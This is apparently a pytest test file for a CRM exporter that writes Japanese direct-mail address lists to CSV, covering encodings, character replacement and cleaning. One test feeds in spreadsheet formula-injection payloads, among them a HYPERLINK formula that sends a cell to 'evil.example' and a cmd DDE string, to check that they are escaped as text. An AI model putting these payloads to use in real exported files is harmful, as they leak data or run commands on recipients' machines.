import csv
import io

import pytest

from crm_common.events.customers import Address
from crm_messaging.domain.dm import DmRow, dm_csv, dm_file, dm_row, encoding_problems
from crm_messaging.domain.errors import EncodingProblem, InvalidIdentifier

HEADER = "管理番号,郵便番号,都道府県,住所1,住所2,氏名,敬称"


def row(name: str = "山田 花子", **fields: str) -> DmRow:
    address = Address(
        postal_code="〒１００ー０００１",
        prefecture="tokyo",
        city="千代田区",
        address1="千代田１－１",
        address2="ﾊﾟﾚｽ 101",
    )
    return dm_row("m1", name, address, fields)


def test_row_is_cleaned_for_printing() -> None:
    assert row(offer="春のセール") == DmRow(
        message_id="m1",
        name="山田 花子",
        postal_code="100-0001",
        prefecture="東京都",
        address1="千代田区 千代田1-1",
        address2="パレス 101",
        fields={"offer": "春のセール"},
    )


def test_incomplete_address_is_refused() -> None:
    with pytest.raises(InvalidIdentifier):
        dm_row("m2", "x", Address(postal_code="100", prefecture="東京都", city="a"))


def test_utf8_bom_csv_with_crlf_and_quoting() -> None:
    rows = [row(offer="10%OFF, 送料無料"), row("佐藤 一郎", coupon="C-1")]
    data = dm_csv(rows, "utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == (
        f"{HEADER},offer,coupon\r\n"
        'm1,100-0001,東京都,千代田区 千代田1-1,パレス 101,山田 花子,様,"10%OFF, 送料無料",\r\n'
        "m1,100-0001,東京都,千代田区 千代田1-1,パレス 101,佐藤 一郎,様,,C-1\r\n"
    )


def test_cp932_maps_wave_dash_and_keeps_ibm_extensions() -> None:
    data = dm_csv([row("髙橋 〜様", offer="−10％")], "cp932")
    text = data.decode("cp932")
    assert text.splitlines()[1] == (
        "m1,100-0001,東京都,千代田区 千代田1-1,パレス 101,髙橋 ～様,様,－10％"
    )
    assert data.endswith(b"\r\n")


def test_cp932_replaces_unrepresentable_characters_and_reports_them() -> None:
    rows = [row(), row("𠮷野 太郎", offer="♡ありがとう😀♡"), row(offer="〜OK")]
    expected = [
        EncodingProblem(1, "氏名", "𠮷"),
        EncodingProblem(1, "offer", "♡😀"),
    ]
    assert encoding_problems(rows, "cp932") == expected
    assert encoding_problems(rows, "utf-8-sig") == []
    file = dm_file(rows, "cp932")
    assert file.replaced == expected
    lines = file.content.decode("cp932").splitlines()
    assert len(lines) == 4  # header + every row: the batch never fails
    assert lines[2].split(",")[5:] == ["〓野 太郎", "様", "〓ありがとう〓〓"]
    assert lines[3].endswith(",～OK")  # a cp932 equivalent is mapped, not replaced
    assert "𠮷野" in dm_csv(rows, "utf-8-sig").decode("utf-8-sig")
    assert dm_file(rows, "utf-8-sig").replaced == []


def test_empty_batch_is_just_the_header() -> None:
    assert dm_csv([], "cp932") == (HEADER + "\r\n").encode("cp932")


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"クリック")', "＝cmd|' /C calc'!A0", "@SUM(1+1)"],
)
def test_a_name_a_spreadsheet_would_run_is_written_as_text(name: str) -> None:
    data = dm_csv([row(name, offer="+cmd|calc", coupon="-2+3")], "utf-8-sig")

    cells = next(csv.reader(io.StringIO(data.decode("utf-8-sig").splitlines()[1])))
    assert cells[5] == "'" + row(name).name  # the cleaned name, shown as text
    assert cells[7:] == ["'+cmd|calc", "'-2+3"]


def test_plain_numbers_stay_numbers() -> None:
    data = dm_csv([row(offer="-1200", coupon="+819012345678")], "utf-8-sig")

    assert data.decode("utf-8-sig").splitlines()[1].endswith(",-1200,+819012345678")
